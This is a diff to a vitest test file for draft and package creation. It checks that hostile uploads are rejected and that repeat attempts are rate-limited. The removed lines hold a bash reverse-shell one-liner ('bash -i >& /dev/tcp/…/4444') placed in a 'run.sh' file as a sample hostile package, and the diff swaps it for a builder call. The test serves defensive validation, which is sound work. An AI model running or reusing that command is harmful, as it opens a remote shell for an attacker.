@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { fakeClock } from "@/lib/clock";
 import { assertDraftRoom, takeDraftPlace } from "@/lib/drafts/take-draft-place";
-import { makeDraft, newClientAddress, smallPackage } from "@/lib/drafts/testing/draft-builders";
+import { makeDraft, newClientAddress, rejectedPackage } from "@/lib/drafts/testing/draft-builders";
 import { testBlobStore, uniqueName } from "@/lib/testing/builders";
 import { testDatabase } from "@/lib/testing/database";
 
@@ -70,8 +70,7 @@ describe("what counts", () => {
         code: "UPLOAD_FAILED",
       });
     }
-    const shell = { "run.sh": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" };
-    const hostile = { address, agentHeader, package: smallPackage(uniqueName(), shell) };
+    const hostile = { address, agentHeader, package: rejectedPackage() };
     for (let i = 0; i < 5; i++)
       await expect(makeDraft(hostile)).rejects.toMatchObject({ code: "DRAFT_NOT_APPROVED" });
     await expect(makeDraft({ address })).rejects.toMatchObject({ code: "RATE_LIMITED" });
